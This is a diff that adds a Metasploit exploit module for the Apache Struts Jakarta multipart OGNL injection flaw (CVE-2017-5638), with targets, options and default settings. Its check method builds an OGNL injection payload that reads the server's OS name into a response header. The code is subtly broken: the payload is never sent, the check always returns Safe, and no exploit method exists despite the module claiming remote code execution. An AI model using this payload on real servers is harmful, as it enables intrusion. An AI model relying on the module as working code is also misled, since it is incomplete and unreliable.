@@ -0,0 +1,59 @@
+##
+# This module requires Metasploit: https://metasploit.com/download
+# Current source: https://github.com/rapid7/metasploit-framework
+##
+
+class MetasploitModule < Msf::Exploit::Remote
+  Rank = ExcellentRanking
+
+  include Msf::Exploit::Remote::HttpClient
+  include Msf::Exploit::EXE
+
+  def initialize(info = {})
+    super(update_info(info,
+      'Name'           => 'Apache Struts Jakarta Multipart Parser OGNL Injection',
+      'Description'    => <<~DESC,
+        This module exploits a remote code execution vulnerability in Apache Struts
+        version 2.3.5 - 2.3.31, and 2.5 - 2.5.10. Remote Code Execution can be performed
+        via http Content-Type header.
+      DESC
+      'Author'         => [ 'Nike.Zheng', 'Nixawk', 'Chorder', 'egypt', 'Jeffrey Martin' ],
+      'References'     => [
+          ['CVE', '2017-5638'],
+          ['URL', 'https://cwiki.apache.org/confluence/display/WW/S2-045']
+        ],
+      'Privileged'     => true,
+      'Targets'        => [
+          [
+            'Universal', {
+              'Platform'   => %w{ unix windows linux },
+              'Arch'       => [ ARCH_CMD, ARCH_X86, ARCH_X64 ],
+            },
+          ],
+        ],
+      'DisclosureDate' => 'Mar 07 2017',
+      'DefaultTarget'  => 0))
+
+    register_options(
+      [
+        Opt::RPORT(8080),
+        OptString.new('TARGETURI', [ true, 'The path to a struts application action', '/struts2-showcase/' ]),
+        OptString.new('TMPPATH', [ false, 'Overwrite the temp path for the file upload. Needed if the home directory is not writable.', nil])
+      ]
+    )
+    register_options(
+      [
+        OptEnum.new('HTTP_METHOD', [true, 'HTTP method to use', 'POST', ['GET', 'POST', 'PUT']]),
+        OptInt.new('TIMEOUT', required: false, desc: 'Request timeout in seconds', default: 20)
+      ]
+    )
+  end
+
+  def check
+    var_a = rand_text_alpha_lower(4)
+    ognl = ""
+    ognl << %q|(#os=@java.lang.System@getProperty('os.name')).|
+    ognl << %Q|(#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('#{var_a}', #os))|
+    Exploit::CheckCode::Safe
+  end
+end